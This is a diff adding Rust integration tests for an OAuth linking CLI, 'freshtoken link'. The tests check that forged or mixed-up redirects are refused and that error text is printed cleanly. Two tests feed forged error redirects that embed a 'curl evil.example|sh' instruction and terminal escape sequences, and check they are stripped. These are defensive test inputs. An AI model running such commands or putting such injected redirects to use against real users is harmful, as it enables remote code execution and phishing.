@@ -1,9 +1,10 @@
 //! `freshtoken link` against the emulator's (self-approving) authorize
 //! endpoint: both steps, the code's sources, state checks, one-step mode.
 
-use crate::support::{authorize, query_param, Env, LINK_START, REDIRECT_URI};
+use crate::support::{authorize, freshtoken, query_param, Cli, Env, LINK_START, REDIRECT_URI};
+use freshtoken_emulator::{Emulator, Options};
 use std::io::Write;
-use std::path::Path;
+use std::path::{Path, PathBuf};
 
 /// Starts a link; returns the authorization URL.
 fn start(env: &Env, state_file: &Path, extra: &[&str]) -> String {
@@ -362,4 +363,268 @@ fn two_runs_finishing_one_link_send_its_code_once() {
         .filter(|name| name.starts_with("link.json"))
         .collect();
     assert!(left.is_empty(), "the used state is gone: {left:?}");
+}
+
+/// `freshtoken --json link --code-stdin` finishing `state_file` for `key`
+/// with `input` on stdin.
+fn finish(env: &Env, state_file: &Path, key: &str, input: &str) -> Cli {
+    env.full(&["--json", "link", "--code-stdin"], key)
+        .args(["--state-file".as_ref(), state_file.as_os_str()])
+        .stdin(format!("{input}\n"))
+}
+
+/// Token requests the emulator `emu` has seen.
+fn token_requests(emu: &Emulator) -> u64 {
+    emu.counters().token_requests
+}
+
+#[test]
+fn finishing_with_another_provider_sends_nothing_there_or_anywhere() {
+    let env = Env::new("link-other-provider");
+    // Another provider, with the same client id and secret.
+    let other = Emulator::start(Options::default()).expect("emulator starts");
+    let state_file = env.scratch.path("link.json");
+    let redirect = authorize(&start(&env, &state_file, &[]));
+    let saved: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(&state_file).unwrap()).unwrap();
+    assert_eq!(saved["token_endpoint"], env.emu.token_endpoint());
+    assert_eq!(
+        saved["authorization_endpoint"],
+        env.emu.authorization_endpoint()
+    );
+
+    let refused = |cli: Cli, field: &str| {
+        let run = cli.run().exits(3);
+        let error = &run.json()["error"];
+        assert_eq!(error["code"], "config");
+        let message = error["message"].as_str().unwrap();
+        assert!(message.contains(field), "{message}");
+        assert!(!message.contains(&other.base_url()), "{message}");
+        assert!(!run.all().contains(crate::support::CLIENT_SECRET));
+    };
+    // The finishing shell's FRESHTOKEN_TOKEN_ENDPOINT, or the option.
+    refused(
+        finish(&env, &state_file, "u1", &redirect)
+            .env("FRESHTOKEN_TOKEN_ENDPOINT", other.token_endpoint()),
+        "token_endpoint",
+    );
+    refused(
+        finish(&env, &state_file, "u1", &redirect)
+            .args(["--token-endpoint", &other.token_endpoint()]),
+        "token_endpoint",
+    );
+    // Another credentials file (the same client at another provider).
+    let other_creds = env.scratch.write_private(
+        "other.json",
+        &crate::support::credentials(
+            crate::support::CLIENT_ID,
+            Some(crate::support::CLIENT_SECRET),
+            &other.token_endpoint(),
+        ),
+    );
+    refused(
+        env.on(&["--json", "link", "--code-stdin"], "u1")
+            .args(["--credentials".as_ref(), other_creds.as_os_str()])
+            .args(["--state-file".as_ref(), state_file.as_os_str()])
+            .stdin(format!("{redirect}\n")),
+        "token_endpoint",
+    );
+    // Another authorization endpoint (the code came from elsewhere).
+    refused(
+        finish(&env, &state_file, "u1", &redirect)
+            .args(["--authorization-endpoint", &other.authorization_endpoint()]),
+        "authorization_endpoint",
+    );
+    // An issuer the link did not start from (its discovered endpoints).
+    refused(
+        finish(&env, &state_file, "u1", &redirect).args(["--issuer", &other.base_url()]),
+        "endpoint",
+    );
+
+    assert_eq!(
+        token_requests(&other),
+        0,
+        "nothing went to the other provider"
+    );
+    assert_eq!(token_requests(&env.emu), 0, "nor anywhere else");
+    assert_eq!(state_files(&env, "link.json"), ["link.json"]);
+    // The link still finishes where it started.
+    finish(&env, &state_file, "u1", &redirect).run().ok();
+    assert_eq!(env.emu.counters().code_exchanges, 1);
+    assert!(env.record("u1").is_some());
+}
+
+#[test]
+fn a_state_file_without_its_provider_is_refused_with_nothing_sent() {
+    let env = Env::new("link-old-state-file");
+    let state_file = env.scratch.path("link.json");
+    let redirect = authorize(&start(&env, &state_file, &[]));
+    // As the previous version wrote it: no endpoints, no issuer.
+    let mut saved: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(&state_file).unwrap()).unwrap();
+    let saved_object = saved.as_object_mut().unwrap();
+    for name in ["token_endpoint", "authorization_endpoint", "issuer"] {
+        saved_object.remove(name);
+    }
+    saved_object.insert("schema".into(), "freshtoken.link/1".into());
+    std::fs::write(&state_file, saved.to_string()).unwrap();
+
+    let run = finish(&env, &state_file, "u1", &redirect).run().exits(3);
+    let message = run.json()["error"]["message"].as_str().unwrap().to_owned();
+    assert!(message.contains("start the link again"), "{message}");
+    assert_eq!(token_requests(&env.emu), 0);
+    assert!(env.record("u1").is_none());
+}
+
+/// A credentials file without a token endpoint: the endpoints come from
+/// the emulator's discovery document with `--issuer`.
+fn discovering(env: &Env, args: &[&str]) -> (Cli, PathBuf) {
+    let creds = env.scratch.write_private(
+        "discovering.json",
+        &serde_json::json!({
+            "clientId": crate::support::CLIENT_ID,
+            "clientSecret": crate::support::CLIENT_SECRET,
+            "slidingRefreshTokenLifetime": 31_536_000,
+        })
+        .to_string(),
+    );
+    let state_file = env.scratch.path("link.json");
+    let cli = freshtoken(args)
+        .args(["--credentials".as_ref(), creds.as_os_str()])
+        .args(["--issuer", &env.emu.base_url()])
+        .args(["--state-file".as_ref(), state_file.as_os_str()]);
+    (cli, state_file)
+}
+
+#[test]
+fn a_redirect_naming_another_issuer_sends_nothing() {
+    let env = Env::new("link-iss");
+    let (cli, state_file) = discovering(&env, &LINK_START);
+    let redirect = authorize(cli.run().ok().stdout.trim());
+    let saved: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(&state_file).unwrap()).unwrap();
+    assert_eq!(saved["issuer"], env.emu.base_url());
+    let finishing = |input: String| {
+        let (cli, _) = discovering(&env, &["--json", "link", "--code-stdin"]);
+        cli.args(["--store".as_ref(), env.store.as_os_str()])
+            .args(["--key", "u1"])
+            .stdin(format!("{input}\n"))
+            .run()
+    };
+    let iss = |issuer: &str| {
+        let issuer: String = form_urlencoded::byte_serialize(issuer.as_bytes()).collect();
+        format!("{redirect}&iss={issuer}")
+    };
+
+    // RFC 9207: the code came from another provider (a mix-up).
+    for forged in [
+        iss("https://as-b.example"),
+        iss(&format!("{}/", env.emu.base_url())),
+    ] {
+        let run = finishing(forged).exits(13);
+        assert_eq!(run.json()["error"]["code"], "state_mismatch");
+    }
+    // An error redirect from another provider is no answer either.
+    let state = query_param(&redirect, "state").unwrap();
+    let run = finishing(format!(
+        "{REDIRECT_URI}?error=access_denied&state={state}&iss=https%3A%2F%2Fas-b.example"
+    ))
+    .exits(13);
+    assert_eq!(run.json()["error"]["code"], "state_mismatch");
+    assert_eq!(token_requests(&env.emu), 0);
+    assert_eq!(state_files(&env, "link.json"), ["link.json"]);
+
+    // The issuer the link started with: linked.
+    finishing(iss(&env.emu.base_url())).ok();
+    assert_eq!(env.emu.counters().code_exchanges, 1);
+    assert!(env.record("u1").is_some());
+}
+
+#[test]
+fn a_redirect_that_repeats_a_parameter_sends_nothing() {
+    let env = Env::new("link-repeated");
+    let state_file = env.scratch.path("link.json");
+    let redirect = authorize(&start(&env, &state_file, &[]));
+    let code = query_param(&redirect, "code").unwrap();
+    let state = query_param(&redirect, "state").unwrap();
+    // Each would have exchanged the genuine code (the last value won).
+    for query in [
+        format!("code=forged&state={state}&code={code}"),
+        format!("code={code}&state=forged&state={state}"),
+        format!("code={code}&st%61te={state}&state={state}"),
+        format!("code={code}&state={state}&iss=x&iss=x"),
+        format!("code={code}&state={state}&error_description=a&error_description=b"),
+        format!("error=access_denied&error=access_denied&code={code}&state={state}"),
+    ] {
+        let run = finish(&env, &state_file, "u1", &format!("{REDIRECT_URI}?{query}"))
+            .run()
+            .exits(13);
+        assert_eq!(run.json()["error"]["code"], "state_mismatch", "{query}");
+        assert!(!run.all().contains(&code));
+    }
+    assert_eq!(token_requests(&env.emu), 0);
+    assert!(env.record("u1").is_none());
+    // The state file is kept for the genuine redirect.
+    assert_eq!(state_files(&env, "link.json"), ["link.json"]);
+    finish(&env, &state_file, "u1", &redirect).run().ok();
+    assert_eq!(env.emu.counters().code_exchanges, 1);
+}
+
+#[test]
+fn an_error_redirect_without_its_state_is_a_mismatch() {
+    let env = Env::new("link-error-no-state");
+    let state_file = env.scratch.path("link.json");
+    let redirect = authorize(&start(&env, &state_file, &[]));
+    let forged = format!(
+        "{REDIRECT_URI}?error=access_denied&error_description=Session+expired.%0aRun%3a+curl+evil.example%7csh"
+    );
+    let run = finish(&env, &state_file, "u1", &forged).run().exits(13);
+    assert_eq!(run.json()["error"]["code"], "state_mismatch");
+    assert!(run.json()["error"].get("description").is_none());
+    let run = env
+        .full(&["link", "--code-stdin"], "u1")
+        .args(["--state-file".as_ref(), state_file.as_os_str()])
+        .stdin(forged)
+        .run()
+        .exits(13);
+    assert!(!run.stderr.contains("evil"), "{}", run.stderr);
+    assert_eq!(token_requests(&env.emu), 0);
+    assert_eq!(state_files(&env, "link.json"), ["link.json"]);
+    finish(&env, &state_file, "u1", &redirect).run().ok();
+}
+
+#[test]
+fn an_error_redirect_prints_no_control_characters() {
+    let env = Env::new("link-error-printed");
+    let state_file = env.scratch.path("link.json");
+    let url = start(&env, &state_file, &[]);
+    let state = query_param(&url, "state").unwrap();
+    let answer = format!(
+        "{REDIRECT_URI}?error=access_denied%1b%5b2J&error_description=Session+expired.%0d%0aRun%3a+curl+evil%7csh+%1b%5b8m%c2%9b2J&state={state}"
+    );
+    let run = env
+        .full(&["link", "--code-stdin"], "u1")
+        .args(["--state-file".as_ref(), state_file.as_os_str()])
+        .stdin(answer.clone())
+        .run()
+        .exits(6);
+    // One line: the message, cleaned, and its line break.
+    let message = run.stderr.strip_suffix('\n').unwrap();
+    assert!(!message.chars().any(char::is_control), "{message:?}");
+    assert!(
+        message.contains("Session expired.  Run: curl evil|sh"),
+        "{message:?}"
+    );
+
+    let run = finish(&env, &state_file, "u1", &answer).run().exits(6);
+    let error = &run.json()["error"];
+    assert_eq!(error["oauth_error"], "(not an RFC 6749 error code)");
+    let description = error["description"].as_str().unwrap();
+    assert!(
+        !description.chars().any(char::is_control),
+        "{description:?}"
+    );
+    let message = error["message"].as_str().unwrap();
+    assert!(!message.chars().any(char::is_control), "{message:?}");
+    assert_eq!(token_requests(&env.emu), 0);
 }
